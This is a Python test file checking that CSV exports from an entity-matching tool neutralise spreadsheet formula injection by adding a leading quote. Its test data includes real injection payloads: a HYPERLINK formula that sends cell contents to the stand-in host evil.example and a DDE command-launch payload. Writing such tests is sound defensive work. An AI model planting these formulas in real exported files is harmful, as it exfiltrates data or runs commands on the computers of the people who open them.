"""Exported CSV cells never run as spreadsheet formulas (issue 13 item 6, OWASP "CSV Injection").

A hostile data set or analyst can put ``=HYPERLINK(...)`` in an id, a name or a note; opened in a
spreadsheet, the exported file would run it. Such cells are written with a leading quote.
"""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from core.formats.export import FORMULA_STARTS, deepmatcher_csv, read_deepmatcher_csv, spreadsheet_safe

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\tx=1", "\rx=1", "\uff1d1+1"]


@pytest.mark.parametrize("cell", HOSTILE)
def test_formula_cells_get_a_leading_quote(cell):
    assert spreadsheet_safe(cell) == "'" + cell


def test_harmless_cells_and_numbers_are_unchanged():
    assert spreadsheet_safe("The Matrix") == "The Matrix"
    assert spreadsheet_safe("a=b") == "a=b"
    assert spreadsheet_safe(-0.5) == -0.5


def test_deepmatcher_ids_are_neutralised():
    accepted = pd.DataFrame({"left_id": ["paper:=1+1", "paper:7"], "right_id": ["paper:@x", "paper:-3"],
                             "type": ["paper", "paper"]})
    text = deepmatcher_csv(accepted)
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][:2] == ["'=1+1", "'@x"] and rows[2][:2] == ["7", "'-3"]
    assert read_deepmatcher_csv(text)["ltable_id"].tolist() == ["'=1+1", "7"]


def test_label_history_notes_and_analysts_are_neutralised(tmp_path):
    from db.labels import FORMULA_STARTS as DB_FORMULA_STARTS
    from db.labels import history_csv, record_decision
    from db.session import make_engine, make_sessionmaker

    assert DB_FORMULA_STARTS == FORMULA_STARTS  # db repeats the rule (it never imports core)
    engine = make_engine(f"sqlite:///{tmp_path / 'labels.sqlite'}")
    try:
        Session = make_sessionmaker(engine)
        with Session.begin() as session:
            record_decision(session, project="p", left_id="=cmd", right_id="r1", type="film", decision="accept",
                            analyst="@mallory", note="=HYPERLINK(\"http://evil.example\")", score=-0.25,
                            model_version="+v")
        with Session.begin() as session:
            rows = list(csv.DictReader(io.StringIO(history_csv(session, project="p"), newline="")))
    finally:
        engine.dispose()
    row = rows[0]
    assert row["left_id"] == "'=cmd" and row["analyst"] == "'@mallory" and row["model_version"] == "'+v"
    assert row["note"] == "'=HYPERLINK(\"http://evil.example\")"
    assert row["score"] == "-0.25" and row["right_id"] == "r1"  # numbers and harmless text as they were
